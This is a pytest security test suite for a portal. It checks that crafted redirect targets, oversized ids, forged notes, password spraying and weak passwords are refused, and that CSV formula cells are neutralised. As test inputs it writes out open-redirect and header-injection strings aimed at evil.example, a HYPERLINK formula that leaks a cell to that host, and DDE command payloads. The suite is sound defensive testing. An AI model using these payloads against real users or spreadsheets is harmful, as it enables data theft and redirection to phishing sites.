"""The attacks a probe of the running portal tried, each as a test's input: crafted redirect
targets, ids past 64 bits, formulas in a history file, notes where an act takes none."""
import base64
import csv
import hashlib
import io
import re
import time
from datetime import datetime, timedelta, timezone

import pytest

from portal.extensions import db
from portal.infra.cells import cell
from portal.models import AccountToken, OutboxMessage, WorkflowEvent
from procedures import APPLICANT, SPECIALIST
from tests.builders import drive, make_dossier, make_user
from tests.summary import count

# What browsers read as another host, though a naive check sees a path.
OFF_SITE = ["https://evil.example/", "//evil.example/", "/\\evil.example/", "\\/evil.example",
            "/\t/evil.example", "\t//evil.example", " //evil.example", "\x00//evil.example",
            "/\n/evil.example", "//evil.example\r\n", "/\\\\evil.example", "javascript:alert(1)",
            "\x01/\\evil.example", "https:evil.example", "/%0d%0aSet-Cookie:x=1",
            "/\r\nLocation: https://evil.example", "/nowhere/on/the/portal", "evil.example"]


@pytest.mark.parametrize("target", OFF_SITE)
def test_signing_in_with_a_crafted_next_stays_on_the_portal(actors, client, target):
    response = client.post("/auth/login", query_string={"next": target},
                           data={"email": actors[APPLICANT].email, "password": "secret-pass-1"})
    assert response.status_code == 302 and response.headers["Location"] == "/"
    count("crafted redirects refused")


@pytest.mark.parametrize("target", OFF_SITE)
def test_the_language_switch_ignores_a_crafted_next(client, target):
    response = client.post("/language", data={"lang": "en", "next": target})
    assert response.status_code == 302 and response.headers["Location"] == "/"
    count("crafted redirects refused")


def test_a_real_page_of_the_portal_is_still_where_sign_in_returns(actors, client):
    response = client.post("/auth/login?next=/applicant/%3Fbefore%3D5",
                           data={"email": actors[APPLICANT].email, "password": "secret-pass-1"})
    assert response.headers["Location"] == "/applicant/?before=5"


HUGE = str(2**64 + 7)
ID_ADDRESSES = [f"/applicant/dossiers/{HUGE}", f"/applicant/dossiers/{HUGE}/history.csv",
                f"/officer/dossiers/{HUGE}", f"/officer/dossiers/1/uploads/{HUGE}",
                f"/dossiers/{HUGE}/letters/receipt.pdf", f"/admin/calendar/{HUGE}/delete",
                f"/applicant/dossiers/{2**31}", f"/api/v1/dossiers/{2**54}"]  # past INTEGER


@pytest.mark.parametrize("role", [None, APPLICANT, SPECIALIST, "admin"])
def test_ids_past_64_bits_are_not_found_for_anyone(actors, client, auth, role):
    if role:
        auth.login(actors[role].email)
    for address in ID_ADDRESSES:
        method = client.post if address.endswith("/delete") else client.get
        assert method(address).status_code == 404, address
        count("oversized ids answered 404")


@pytest.mark.parametrize("address", ["/applicant/?before=", "/admin/users?after=", "/admin/audit?before=",
                                     "/officer/documents?before=", "/register?after=", "/register/revoked-names?after=",
                                     "/officer/queues/intake?after=2026-01-01_"])
def test_an_oversized_or_foreign_number_in_the_query_is_ignored(actors, client, auth, address):
    role = APPLICANT if address.startswith("/applicant") else "admin" if "admin" in address else SPECIALIST
    auth.login(actors[role].email)
    for value in (HUGE, "-1", "١٢", "1e9"):
        assert client.get(address + value).status_code == 200, address + value
        count("oversized ids answered 404")


def test_history_csv_keeps_a_planted_formula_as_text(actors, client, auth):
    """An officer's reason is copied to the enterprise's history file; as a formula it would
    run on the machine of whoever opens it in a spreadsheet."""
    dossier = make_dossier("id_grant", actors[APPLICANT])
    drive(dossier, actors, "submit", "return_for_correction",
          note='=HYPERLINK("https://evil.example/?"&A1,"Bấm vào đây")')
    db.session.commit()
    auth.login(actors[APPLICANT].email)
    body = client.get(f"/applicant/dossiers/{dossier.id}/history.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    notes = [row[-1] for row in rows[1:] if row[-1]]
    assert notes == ["'=HYPERLINK(\"https://evil.example/?\"&A1,\"Bấm vào đây\")"]
    count("formula cells neutralised")


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
def test_every_formula_lead_is_written_as_text(value):
    assert cell(value) == "'" + value
    count("formula cells neutralised")


def test_plain_text_and_numbers_are_written_as_they_are():
    assert [cell(v) for v in ("Thiếu bản khai", "", 5, None, "1-2")] == ["Thiếu bản khai", "", 5, None, "1-2"]


def test_a_note_sent_with_an_act_that_takes_none_is_dropped(actors, client, auth):
    """Submitting offers no note; a forged one never reaches the history."""
    dossier = make_dossier("bl_grant", actors[APPLICANT])
    db.session.commit()
    auth.login(actors[APPLICANT].email)
    client.post(f"/applicant/dossiers/{dossier.id}/actions/submit",
                data={"version": dossier.version, "note": "=cmd|' /C calc'!A0"})
    event = db.session.execute(db.select(WorkflowEvent).where(WorkflowEvent.dossier_id == dossier.id)).scalar_one()
    assert event.action == "submit" and event.note == ""
    count("notes refused where none is declared")


def test_one_address_trying_a_common_password_across_every_account_is_stopped(app, client):
    """Spraying: one try per account never trips the per-account counter, so the address
    is counted across accounts too."""
    for n in range(30):
        client.post("/auth/login", data={"email": f"nhan-vien-{n}@example.vn", "password": "Matkhau@123"})
    response = client.post("/auth/login", data={"email": "nhan-vien-30@example.vn", "password": "Matkhau@123"})
    assert response.status_code == 429
    count("throttles proven")


def test_one_account_tried_from_many_addresses_is_stopped(actors, app, client):
    email = actors[APPLICANT].email
    for n in range(20):
        client.post("/auth/login", data={"email": email, "password": "sai-mat-khau"},
                    environ_base={"REMOTE_ADDR": f"203.0.113.{n}"})
    response = client.post("/auth/login", data={"email": email, "password": "secret-pass-1"},
                           environ_base={"REMOTE_ADDR": "198.51.100.7"})
    assert response.status_code == 429
    count("throttles proven")


def _registration(n: int) -> dict:
    return {"code": f"01{n:08d}", "name": f"Công ty Thử {n}", "address": "Hà Nội",
            "legal_representative": "Nguyễn Văn A", "full_name": "Nguyễn Văn A",
            "email": f"dk{n}@example.vn", "password": "mat-khau-dai-1", "confirm": "mat-khau-dai-1"}


def test_registration_from_one_address_is_limited(app, client):
    for n in range(5):
        client.post("/auth/register", data=_registration(n))
        client.post("/auth/logout")
    assert client.post("/auth/register", data=_registration(5)).status_code == 429
    count("throttles proven")


def test_colleague_invitations_are_limited(actors, client, auth):
    """Each invitation sends the ministry's mail to an address the inviter chooses."""
    auth.login(actors[APPLICANT].email)
    for n in range(10):
        client.post("/applicant/colleagues", data={"full_name": "Khách", "email": f"ai-do-{n}@example.vn"})
    response = client.post("/applicant/colleagues", data={"full_name": "Khách", "email": "them@example.vn"})
    assert response.status_code == 429
    count("throttles proven")


def test_walking_the_document_numbers_is_limited(app, client):
    for n in range(120):
        client.get(f"/verify/{n:06d}-GP")
    assert client.get("/verify/999999-GP").status_code == 429
    count("throttles proven")


def test_an_unknown_account_takes_as_long_to_refuse_as_a_known_one(actors, client):
    """The answer's time no longer tells who has an account: both check a scrypt hash."""
    def median(email):
        times = []
        for _ in range(3):
            started = time.process_time()  # the work, not the wait for a core
            client.post("/auth/login", data={"email": email, "password": "sai-mat-khau-nua"})
            times.append(time.process_time() - started)
        return sorted(times)[1]
    known, unknown = median(actors[APPLICANT].email), median("khong-co@example.vn")
    assert unknown > known / 2, (known, unknown)
    count("throttles proven")


@pytest.mark.parametrize("password", ["aaaaaaaaaaaa", "password1234", "123456789012", "qwertyuiopas",
                                      "ngắn-quá-1", "Công ty Thử 7"])
def test_a_weak_password_is_refused_at_registration(app, client, password):
    response = client.post("/auth/register", data={**_registration(7), "password": password, "confirm": password})
    text = response.get_data(as_text=True)
    assert response.status_code == 200 and ("quá phổ biến" in text or "từ 12 đến 200" in text)
    count("weak passwords refused")


def test_a_reset_link_carries_nothing_readable_and_is_kept_only_as_a_hash(actors, client):
    """The old token was base64 of the user id and part of the password hash."""
    user = actors[APPLICANT]
    client.post("/auth/reset", data={"email": user.email})
    body = db.session.execute(db.select(OutboxMessage)).scalar_one().body
    token = re.search(r"/auth/reset/(\S+)", body).group(1)
    # 256 random bits and nothing else: no signed payload (no "." separator), no hash fragment.
    assert re.fullmatch(r"[A-Za-z0-9_-]{43}", token)
    assert user.password_hash[-12:].encode() not in base64.urlsafe_b64decode(token + "=")
    stored = db.session.execute(db.select(AccountToken)).scalar_one()
    assert stored.token_hash == hashlib.sha256(token.encode()).hexdigest() and token not in stored.token_hash
    count("password links kept hashed")


def test_an_expired_reset_link_sets_nothing(actors, client, auth):
    user = actors[APPLICANT]
    client.post("/auth/reset", data={"email": user.email})
    token = re.search(r"/auth/reset/(\S+)", db.session.execute(db.select(OutboxMessage)).scalar_one().body).group(1)
    db.session.execute(db.update(AccountToken).values(expires_at=datetime.now(timezone.utc) - timedelta(seconds=1)))
    db.session.commit()
    client.post(f"/auth/reset/{token}", data={"password": "mat-khau-moi-9", "confirm": "mat-khau-moi-9"})
    assert auth.login(user.email, "mat-khau-moi-9").status_code == 200  # refused: the form again
    count("password links kept hashed")


def test_colleagues_behind_one_office_address_all_sign_in(app, client):
    """Only refused sign-ins count across accounts: an office's shared address is no spray."""
    app.config["RATE_LIMITS"] = {**app.config["RATE_LIMITS"], "login_address": "3 per minute"}
    staff = [make_user(APPLICANT) for _ in range(4)]
    db.session.commit()
    for person in staff:
        client.post("/auth/logout")
        assert client.post("/auth/login", data={"email": person.email, "password": "secret-pass-1"}).status_code == 302
    client.post("/auth/logout")
    for person in staff[:3]:
        client.post("/auth/login", data={"email": person.email, "password": "sai-mat-khau"})
    assert client.post("/auth/login", data={"email": staff[3].email, "password": "secret-pass-1"}).status_code == 429
    count("throttles proven")
